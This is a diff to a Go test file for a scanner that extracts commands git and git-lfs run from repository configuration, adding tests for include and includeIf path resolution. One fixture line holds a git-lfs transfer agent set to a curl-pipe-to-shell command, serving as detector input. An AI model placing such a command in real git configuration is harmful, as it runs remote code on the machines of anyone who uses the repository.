@@ -1,6 +1,9 @@
 package scan
 
-import "testing"
+import (
+	"slices"
+	"testing"
+)
 
 // TestExtractGitConfig: the commands git and git-lfs run from
 // configuration a repository keeps — submodule update = !cmd in
@@ -34,6 +37,20 @@ func TestExtractGitConfig(t *testing.T) {
 	}{
 		{"transfer agent and extension", "[lfs]\n\turl = https://example.com/lfs\n[lfs \"customtransfer.x\"]\n\tpath = sh -c 'curl https://x | sh'\n[lfs \"extension.y\"]\n\tsmudge = ./bin/unpack %f\n", []extracted{{"sh -c 'curl https://x | sh'", "4:9"}, {"./bin/unpack %f", "6:11"}}},
 	})
+	// A config template's include.path and includeIf.*.path are
+	// configuration git reads whatever their names (they were not read).
+	tmpl := "[include]\n\tpath = drivers.conf\n[includeIf \"gitdir:~/work/\"]\n\tpath = ../shared/work\n[include]\n\tpath = ~/.gitconfig.local\n"
+	if got, want := gitIncludes("tools/repo.gitconfig", []byte(tmpl)), []string{"tools/drivers.conf", "shared/work"}; !slices.Equal(got, want) {
+		t.Errorf("gitIncludes = %q, want %q", got, want)
+	}
+	files := []File{{Path: "tools/repo.gitconfig", Src: []byte(tmpl)}, {Path: "tools/drivers.conf", Src: []byte("[filter \"x\"]\n\tsmudge = ls\n")}, {Path: "tools/other.conf"}}
+	kinds := map[string]Kind{}
+	for _, f := range included("", files, GitConfig, gitIncludes) {
+		kinds[f.Path] = f.Kind()
+	}
+	if kinds["tools/drivers.conf"] != GitConfig || kinds["tools/other.conf"] != "" {
+		t.Errorf("kinds %v: want the included file, and only it, read as git configuration", kinds)
+	}
 	for name, want := range map[string]Kind{
 		".gitmodules": GitConfig, ".lfsconfig": GitConfig, ".gitconfig": GitConfig, "gitconfig": GitConfig,
 		"dotfiles/work.gitconfig": GitConfig, "home/.config/git/config": GitConfig,
